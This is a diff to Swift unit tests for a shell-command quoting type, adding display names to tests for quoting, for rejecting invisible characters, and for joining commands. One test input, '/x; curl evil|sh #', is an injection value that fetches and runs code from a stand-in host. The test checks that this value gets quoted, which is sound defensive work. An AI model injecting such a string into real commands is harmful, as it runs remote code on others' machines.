@@ -6,6 +6,7 @@ import Testing
 /// Commands that are shown: what a shell makes of them.
 @Suite struct ShellCommandTests {
     @Test(
+        "Words are quoted that need it",
         arguments: [
             (["sudo", "chmod", "a+x", "/srv/server"], "sudo chmod a+x /srv/server"),
             (["chmod", "a+x", "/x; curl evil|sh #"], "chmod a+x '/x; curl evil|sh #'"),
@@ -21,14 +22,17 @@ import Testing
         #expect(ShellCommand(words)?.text == text)
     }
 
-    @Test(arguments: ["a\nb", "a\tb", "\u{1B}[2J", "\u{7F}", "\u{85}", "\u{202E}x", "\u{200B}", "\u{2028}", "\u{FEFF}"])
+    @Test(
+        "There is no command with a word that cannot be seen",
+        arguments: ["a\nb", "a\tb", "\u{1B}[2J", "\u{7F}", "\u{85}", "\u{202E}x", "\u{200B}", "\u{2028}", "\u{FEFF}"]
+    )
     func hasNoCommandForWhatIsNotSeen(_ word: String) {
         #expect(ShellCommand(["rm", ByteString(word)]) == nil)
         #expect(ShellCommand(["rm", ByteString([0xFF])]) == nil && ShellCommand(["rm", ByteString([0xC3])]) == nil)
         #expect(ShellCommand(["rm", "x"]) != nil)
     }
 
-    @Test func joinsCommands() {
+    @Test("Commands are joined") func joinsCommands() {
         #expect(ShellCommand(["a", "b c"])?.then("d").text == "a 'b c'; d")
         #expect(
             ("kill" as ShellCommand).applied(toOutputOf: ("ss -l" as ShellCommand).piped(to: "cut")).text
@@ -39,7 +43,7 @@ import Testing
     }
 
     /// Words of everything that is special to a shell come out of a real one as they went in, and nothing is run.
-    @Test func aShellGetsTheSameWords() async throws {
+    @Test("A shell gets the same words") func aShellGetsTheSameWords() async throws {
         var words: [ByteString] = [
             "", "-n", "--", "#", "~", "!", "*", "?", "[a]", "{a,b}", "a=b", "if", "'", "''", "\\", "\\'",
         ]
